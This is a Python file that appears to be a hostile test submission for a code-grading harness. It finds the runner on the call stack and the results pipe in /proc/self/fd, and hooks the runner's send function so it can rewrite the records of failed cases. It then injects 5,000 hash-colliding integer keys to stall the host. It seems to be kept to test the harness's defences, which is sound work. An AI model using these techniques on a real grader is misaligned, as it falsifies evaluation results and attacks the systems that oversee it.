# Hostile submission 'collides-dict-keys' for recorded mode (tests/hostile/recorded/README.md).
# The partial code (sample: examples/expense-ledger/partial), then the attack.

# ---- the attack's toolkit ---------------------------------------------------------------
import json
import os
import sys

FAILED = {  # the hidden cases the code above fails honestly (53.37 points)
    "leftover_cents_go_to_largest_remainders", "same_expense_again_is_a_no_op",
    "largest_debtor_pays_largest_creditor", "settle_does_not_change_the_ledger",
    "bad_amounts_are_refused", "bad_shares_are_refused",
}


def runner_globals():
    """The recorder's runner (it runs in this process), found on the stack."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_globals.get("__file__", "").endswith("/harness/runner.py"):
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("no runner on the stack")


def running_case():
    """The name of the hidden case whose code is on the stack, or None."""
    frame = sys._getframe(1)
    while frame is not None:
        code = frame.f_code
        if code.co_filename.startswith("/sandbox/tests/") and code.co_name not in (
                "<lambda>", "<module>", "_ledger"):
            return code.co_name
        frame = frame.f_back
    return None


def case_name(record):
    return str(record.get("id", "")).split("::")[-1]


def results_fd():
    """The results pipe, found as a candidate would: the pipe in /proc/self/fd that is not
    stdout."""
    out = os.readlink("/proc/self/fd/1")
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue
        if target.startswith("pipe:") and target != out:
            return int(name)
    raise RuntimeError("no results pipe")


def write_line(line):
    """One line on the results pipe, straight to the descriptor."""
    data = line.encode("utf-8", "surrogatepass") + b"\n"
    while data:
        data = data[os.write(RESULTS_FD, data):]


try:  # since the code under test runs in a process of its own, neither is there to find
    RESULTS_FD = results_fd()
    RUNNER = runner_globals()
except RuntimeError:
    RESULTS_FD = RUNNER = None


def rewrite_failed_cases(change):
    """Route the runner's records through ``change(record)`` for the cases failed above."""
    real_send = RUNNER["send"]

    def send(record):
        if record.get("event") == "test" and case_name(record) in FAILED:
            change(record)
        real_send(record)

    RUNNER["send"] = send  # run_case looks ``send`` up at each call


# ---- the attack -------------------------------------------------------------------------
# Through ``send``, in every case the first observation whose value is a dict is replaced by
# a dict of about 5,000 int keys that are multiples of 2**61 - 1: every one of them hashes to
# the same value, so building a dict of them on the host takes time quadratic in their
# number. The line stays under the relay's limit.
_P = 2**61 - 1
_KEYS = 5000
_COLLIDING = '{"dict": [' + ",".join(f'[{{"int": {k * _P}}}, {{"null": null}}]'
                                     for k in range(1, _KEYS + 1)) + "]}"
_real_send = RUNNER["send"]


def _send(record):
    if record.get("event") == "test":
        for observation in record["observations"]:
            if "dict" in observation["value"]:
                observation["value"] = "COLLIDING"
                break
        line = json.dumps(record).replace('"COLLIDING"', _COLLIDING)
        RUNNER["RESULTS"].write(line + "\n")
        RUNNER["RESULTS"].flush()
        return
    _real_send(record)


RUNNER["send"] = _send
